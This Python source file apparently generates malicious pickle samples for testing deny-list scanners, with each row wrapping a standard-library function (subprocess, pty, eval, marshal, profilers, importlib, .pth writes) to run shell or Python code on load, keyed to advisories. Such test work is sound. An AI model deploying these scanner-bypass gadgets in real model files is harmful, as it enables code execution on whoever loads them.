"""Malicious pickles around single functions of the standard library: processes, evaluation, profiling, imports.

Most rows are functions named by advisories against deny-list scanners; `source` says which.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import marshal
import sys

from .assembler import (
    MARKER,
    POP,
    PYTHON,
    REDUCE,
    SHELL,
    TUPLE1,
    Op,
    build,
    call,
    evil,
    new,
    pickle,
    raw,
    stack_global,
    text,
)
from .sample import Sample, write_bytes

SG = stack_global
SH = ["sh", "-c", SHELL]
IO = call(SG("io", "StringIO"), "")


def _code() -> Op:
    return call(SG("builtins", "compile"), PYTHON, "model", "exec")


def _space(**attributes: object) -> Op:
    """A SimpleNamespace standing in for the `self` a method wants."""
    return build(new(SG("types", "SimpleNamespace")), dict(attributes))


_PROCESS = [
    ("os.popen", call(SG("os", "popen"), SHELL), ""),
    ("os.execv", call(SG("os", "execv"), "/bin/sh", SH), ""),
    ("os.spawnv", call(SG("os", "spawnv"), 0, "/bin/sh", SH), ""),
    ("os.posix_spawn", call(SG("os", "posix_spawn"), "/bin/sh", SH, SG("os", "environ")), ""),
    ("subprocess.Popen", call(SG("subprocess", "Popen"), SH), ""),
    ("subprocess.run", call(SG("subprocess", "run"), SH), ""),
    ("subprocess.check_output", call(SG("subprocess", "check_output"), SH), ""),
    ("subprocess.getoutput", call(SG("subprocess", "getoutput"), SHELL), ""),
    ("pty.spawn", call(SG("pty", "spawn"), SH), "GHSA-r7v6-mfhq-g3m2"),
    ("multiprocessing.util.spawnv_passfds", call(SG("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", [b"sh", b"-c", SHELL.encode()], ()), "GHSA-q5qq-mvfm-j35x"),
    ("asyncio.unix_events._UnixSubprocessTransport._start", call(SG("asyncio.unix_events", "_UnixSubprocessTransport._start"), _space(), SHELL, True, None, None, None, 0), "CVE-2025-10157"),
    ("asyncio.create_subprocess_shell", call(SG("asyncio", "run"), call(SG("asyncio", "create_subprocess_shell"), SHELL)) + POP + call(SG("time", "sleep"), 0.2), ""),
    ("uuid._get_command_stdout", call(SG("uuid", "_get_command_stdout"), "sh", "-c", SHELL), "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support._read_output", call(SG("_osx_support", "_read_output"), SHELL), "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support._find_build_tool", call(SG("_osx_support", "_find_build_tool"), f"x; {SHELL}; true"), "GHSA-g38g-8gr9-h9xp"),
    ("_aix_support._read_cmd_output", call(SG("_aix_support", "_read_cmd_output"), SHELL), "GHSA-g38g-8gr9-h9xp"),
    ("imaplib.IMAP4_stream", call(SG("imaplib", "IMAP4_stream"), SHELL), "GHSA-g38g-8gr9-h9xp"),
    ("test.support.script_helper.assert_python_ok", call(SG("test.support.script_helper", "assert_python_ok"), "-c", PYTHON), "GHSA-g38g-8gr9-h9xp"),
    ("pydoc.pipepager", call(SG("pydoc", "pipepager"), "text", SHELL), "https://huggingface.co/DohaLee/modelscan-pydoc-pipepager-bypass-poc"),
    ("pydoc.tempfilepager", call(SG("pydoc", "tempfilepager"), "text", f"{SHELL};"), ""),
    ("webbrowser.GenericBrowser", call(SG("webbrowser", "GenericBrowser.open"), call(SG("webbrowser", "GenericBrowser"), SH), "http://localhost"), ""),
    ("distutils.spawn.spawn", call(SG("distutils.spawn", "spawn"), SH), "https://huggingface.co/mohammedix88/picklescan-distutils-bypass-poc"),
    ("ctypes.CDLL", call(call(SG("builtins", "getattr"), call(SG("ctypes", "CDLL"), None), "system"), SHELL.encode()), "GHSA-q5qq-mvfm-j35x"),
    ("ctypes.PyDLL", call(call(SG("builtins", "getattr"), call(SG("ctypes", "PyDLL"), None), "PyRun_SimpleString"), PYTHON.encode()), "https://huggingface.co/xiaoyaoes/modelscan-joblib-bypass"),
    ("pipes.Template", call(SG("pipes", "Template.copy"), build(call(SG("pipes", "Template")), {"steps": [(SHELL, "--")], "debugging": 0}), "/dev/null", "/dev/null"), ""),
    ("shutil.os.system", call(SG("shutil", "os.system"), SHELL), ""),
    ("pip.main", call(SG("pip", "main"), ["--log", MARKER, "config", "debug"]), "CVE-2025-1716"),
    ("ensurepip._run_pip", call(SG("ensurepip", "_run_pip"), ["--log", MARKER, "config", "debug"], []), "GHSA-xp4f-hrf8-rxw7"),
    ("venv.create", call(SG("venv", "create"), MARKER), "GHSA-vqmv-47xg-9wpr"),
]  # fmt: skip

_EVALUATION = [
    ("builtins.eval", call(SG("builtins", "eval"), PYTHON), ""),
    ("builtins.compile", call(call(SG("types", "FunctionType"), _code(), {"__builtins__": SG("builtins", "__dict__")})), ""),
    ("builtins.breakpoint", call(SG("builtins", "breakpoint")), ""),
    ("marshal.loads", call(SG("builtins", "exec"), call(SG("marshal", "loads"), raw(marshal.dumps(compile(PYTHON, "m", "exec"))))), "GHSA-565g-hwwr-4pp3"),
    ("timeit.timeit", call(SG("timeit", "timeit"), PYTHON, "pass", SG("time", "perf_counter"), 1), "GHSA-v7x6-rv5q-mhwc"),
    ("timeit.main", call(SG("timeit", "main"), ["-n1", "-r1", PYTHON]), "GHSA-v7x6-rv5q-mhwc"),
    ("profile.run", call(SG("profile", "run"), PYTHON), "GHSA-4r9r-ch6f-vxmx"),
    ("profile.Profile.run", call(SG("profile", "Profile.run"), call(SG("profile", "Profile")), PYTHON), "GHSA-x696-vm39-cp64"),
    ("profile.Profile.runctx", call(SG("profile", "Profile.runctx"), call(SG("profile", "Profile")), PYTHON, {}, {}), "GHSA-6vqj-c2q5-j97w"),
    ("cProfile.run", call(SG("cProfile", "run"), PYTHON), "GHSA-p523-jq9w-64x9"),
    ("cProfile.runctx", call(SG("cProfile", "runctx"), PYTHON, {}, {}), "GHSA-9w88-8rmg-7g2p"),
    ("trace.Trace.run", call(SG("trace", "Trace.run"), call(SG("trace", "Trace"), 0, 0), PYTHON), "GHSA-5qwp-399c-mjwf"),
    ("trace.Trace.runctx", call(SG("trace", "Trace.runctx"), call(SG("trace", "Trace"), 0, 0), PYTHON), "GHSA-g344-hcph-8vgg"),
    ("bdb.Bdb.runeval", call(SG("bdb", "Bdb.runeval"), call(SG("bdb", "Bdb")), PYTHON), "GHSA-46h3-79wf-xr6c"),
    ("pdb.Pdb.onecmd", call(SG("pdb", "Pdb.onecmd"), build(call(SG("pdb", "Pdb")), {"curframe": call(SG("sys", "_getframe")), "curframe_locals": {}}), "!" + PYTHON), "GHSA-4675-36f9-wf6r"),
    ("doctest.debug_script", call(SG("doctest", "debug_script"), PYTHON, True, {}), "GHSA-fqq6-7vqf-w3fg"),
    ("code.InteractiveInterpreter.runcode", call(SG("code", "InteractiveInterpreter.runcode"), call(SG("code", "InteractiveInterpreter")), PYTHON), "GHSA-q5qq-mvfm-j35x"),
    ("code.InteractiveInterpreter.runsource", call(SG("code", "InteractiveInterpreter.runsource"), call(SG("code", "InteractiveInterpreter")), PYTHON), "GHSA-q5qq-mvfm-j35x"),
    ("code.InteractiveConsole.push", call(SG("code", "InteractiveConsole.push"), call(SG("code", "InteractiveConsole")), PYTHON), ""),
    ("runpy._run_code", call(SG("runpy", "_run_code"), PYTHON, {}), "GHSA-wfq2-52f7-7qvj"),
    ("idlelib.run.Executive.runcode", call(SG("idlelib.run", "Executive.runcode"), _space(locals={}, usr_exc_info=None), PYTHON), "GHSA-m869-42cg-3xwr"),
    ("idlelib.calltip.get_entity", call(SG("idlelib.calltip", "get_entity"), PYTHON), "GHSA-q77w-mwjj-7mqx"),
    ("idlelib.calltip.Calltip.fetch_tip", call(SG("idlelib.calltip", "Calltip.fetch_tip"), call(SG("idlelib.calltip", "Calltip")), PYTHON), "GHSA-8r4j-24qv-fmq9"),
    ("idlelib.autocomplete.AutoComplete.get_entity", call(SG("idlelib.autocomplete", "AutoComplete.get_entity"), _space(), PYTHON), "GHSA-6w4w-5w54-rjvr"),
    ("idlelib.autocomplete.AutoComplete.fetch_completions", call(SG("idlelib.autocomplete", "AutoComplete.fetch_completions"), call(SG("idlelib.autocomplete", "AutoComplete")), PYTHON, 0), "GHSA-7cq8-mj8x-j263"),
    ("idlelib.pyshell.ModifiedInterpreter.runcode", call(SG("idlelib.pyshell", "ModifiedInterpreter.runcode"), _space(tkconsole=_space(executing=False, beginexecuting=SG("builtins", "list"), endexecuting=SG("builtins", "list")), checklinecache=SG("builtins", "list"), debugger=None, rpcclt=None, locals={}), _code()), "GHSA-3gf5-cxq9-w223"),
    ("idlelib.pyshell.ModifiedInterpreter.runcommand", call(SG("idlelib.pyshell", "ModifiedInterpreter.runcommand"), _space(tkconsole=_space(executing=False), rpcclt=None, locals={}), PYTHON), "GHSA-j343-8v2j-ff7w"),
    ("idlelib.debugobj.ObjectTreeItem.SetText", call(SG("idlelib.debugobj", "ObjectTreeItem.SetText"), _space(setfunction=SG("builtins", "exec")), PYTHON), "GHSA-3vg9-h568-4w9m"),
    ("lib2to3.pgen2.pgen.ParserGenerator.make_label", call(SG("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), _space(), _space(labels=[], keywords={}, tokens={}), "''or " + PYTHON), "GHSA-p9w7-82w4-7q8m"),
    ("typing.ForwardRef._evaluate", call(SG("typing", "ForwardRef._evaluate"), call(SG("typing", "ForwardRef"), PYTHON), {}, {}, call(SG("builtins", "frozenset"))), ""),
    ("typing.get_type_hints", call(SG("typing", "get_type_hints"), call(SG("builtins", "type"), "W", (), {"__annotations__": {"w": PYTHON}, "__module__": "argparse"})), ""),
    ("dataclasses._create_fn", call(call(SG("dataclasses", "_create_fn"), "load", [], [PYTHON])), ""),
    ("dataclasses._create_fn-arguments", call(SG("dataclasses", "_create_fn"), "load", [f"w={PYTHON}"], ["pass"]), ""),
    ("xxsubinterpreters.run_string", call(SG("_xxsubinterpreters", "run_string"), call(SG("_xxsubinterpreters", "create")), PYTHON), "GHSA-6ggj-6f2q-f7mx"),
    ("logging.config.fileConfig", call(SG("logging.config", "fileConfig"), call(SG("io", "StringIO"), f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=[{PYTHON}]\n")), ""),
    ("logging.config.dictConfig", call(SG("logging.config", "dictConfig"), {"version": 1, "formatters": {"f": {"()": "os.system", "command": SHELL}}}), ""),
    ("sys.stdout-replaced", build(call(SG("sys", "modules.get"), "sys"), {"stdout": _space(write=SG("builtins", "exec"), flush=SG("builtins", "list"))}) + POP + call(SG("builtins", "print"), PYTHON), ""),
    ("sys.addaudithook", call(SG("sys", "addaudithook"), call(SG("builtins", "eval"), "lambda event, _: event == 'violet' and " + PYTHON)) + POP + call(SG("sys", "audit"), "violet"), ""),
    ("sys.setprofile", call(SG("sys", "setprofile"), call(SG("builtins", "eval"), "lambda *event: " + PYTHON)) + POP + call(SG("math", "sqrt"), 4), ""),
    ("sched.scheduler.run", call(SG("sched", "scheduler.run"), build(call(SG("sched", "scheduler")), {"_queue": [call(SG("sched", "Event"), 0, 0, 0, SG("os", "system"), (SHELL,), {})]})), ""),
]  # fmt: skip

_WRITE_MODULE = call(SG("pathlib", "Path.write_text"), call(SG("pathlib", "Path"), "violet_weights.py"), PYTHON) + POP
_WRITE_PTH = (
    call(SG("pathlib", "Path.write_text"), call(SG("pathlib", "Path"), "violet.pth"), f"import os; {PYTHON}") + POP
)

_IMPORTS = [
    ("importlib.import_module", _WRITE_MODULE + call(SG("sys", "path.append"), "") + POP + call(SG("importlib", "import_module"), "violet_weights"), "GHSA-q5qq-mvfm-j35x"),
    ("importlib.SourceFileLoader", _WRITE_MODULE + call(SG("importlib.machinery", "SourceFileLoader.load_module"), call(SG("importlib.machinery", "SourceFileLoader"), "violet_weights", "violet_weights.py")), "https://huggingface.co/EnigmaConsultant/huntr-poc-pickle-pathlib-sourcefileloader-writeload-bypass"),
    ("imp.load_source", _WRITE_MODULE + call(SG("imp", "load_source"), "violet_weights", "violet_weights.py"), ""),
    ("runpy.run_path", _WRITE_MODULE + call(SG("runpy", "run_path"), "violet_weights.py"), "GHSA-wfq2-52f7-7qvj"),
    ("import-of-written-module", _WRITE_MODULE + call(SG("sys", "path.append"), "") + POP + SG("violet_weights", "anything"), ""),
    ("site.addpackage", _WRITE_PTH + call(SG("site", "addpackage"), "", "violet.pth", call(SG("builtins", "set"))), ""),
    ("site.addsitedir", _WRITE_PTH + call(SG("site", "addsitedir"), "."), ""),
    ("zipimport.zipimporter", _WRITE_MODULE + call(SG("zipfile", "ZipFile.write"), call(SG("zipfile", "ZipFile"), "weights.zip", "w"), "violet_weights.py") + POP + call(SG("gc", "collect")) + POP + call(SG("zipimport", "zipimporter.load_module"), call(SG("zipimport", "zipimporter"), "weights.zip"), "violet_weights"), ""),
    ("pydoc.importfile", _WRITE_MODULE + call(SG("pydoc", "importfile"), "violet_weights.py"), ""),
    ("distutils.core.run_setup", _WRITE_MODULE + call(SG("distutils.core", "run_setup"), "violet_weights.py"), ""),
    ("trace.Trace.runfunc", _WRITE_MODULE + call(SG("trace", "Trace.runfunc"), call(SG("trace", "Trace"), 0, 0), SG("runpy", "run_path"), "violet_weights.py"), ""),
    ("importlib.util.find_spec", call(call(SG("operator", "methodcaller"), "system", SHELL), call(SG("importlib.util", "find_spec"), "os") + POP + call(SG("importlib", "__import__"), "os")), "https://github.com/mmaitre314/picklescan/issues/66"),
    ("builtins.__import__", call(SG("builtins", "__import__"), "antigravity") + POP + call(call(SG("operator", "attrgetter"), "system"), call(SG("builtins", "__import__"), "os")) + text(SHELL) + TUPLE1 + REDUCE, ""),
    ("shelve.Unpickler.load", call(SG("pathlib", "Path.write_bytes"), call(SG("pathlib", "Path"), "w.pkl"), evil()) + POP + call(SG("shelve", "Unpickler.load"), call(SG("shelve", "Unpickler"), call(SG("io", "FileIO"), "w.pkl"))), ""),
]  # fmt: skip

# Where the standard library dropped a module, the sample is not available; where nothing happens at load, not fired.
_NEEDS = {"distutils.spawn.spawn": "distutils", "pipes.Template": "pipes", "imp.load_source": "imp", "distutils.core.run_setup": "distutils", "lib2to3.pgen2.pgen.ParserGenerator.make_label": "lib2to3", "xxsubinterpreters.run_string": "_xxsubinterpreters", "pip.main": "pip", "ensurepip._run_pip": "ensurepip"}  # fmt: skip
_INERT = {"builtins.breakpoint", "_aix_support._read_cmd_output"}
_UNTIL_3_12 = {"typing.ForwardRef._evaluate", "dataclasses._create_fn", "dataclasses._create_fn-arguments"}


def _sample(function: str, body: Op, source: str) -> Sample:
    name = f"gadget_{function.replace('.', '_')}.pkl"
    content = pickle(body)
    needs = (_NEEDS[function],) if function in _NEEDS else ()
    gone = sys.version_info >= (3, 13) and function in _UNTIL_3_12
    return Sample(
        name,
        f"gadget/{function}",
        True,
        not gone and function not in _INERT,
        write_bytes(name, lambda: content),
        "pickle",
        needs,
        source,
    )


SAMPLES = tuple(_sample(*row) for table in (_PROCESS, _EVALUATION, _IMPORTS) for row in table)
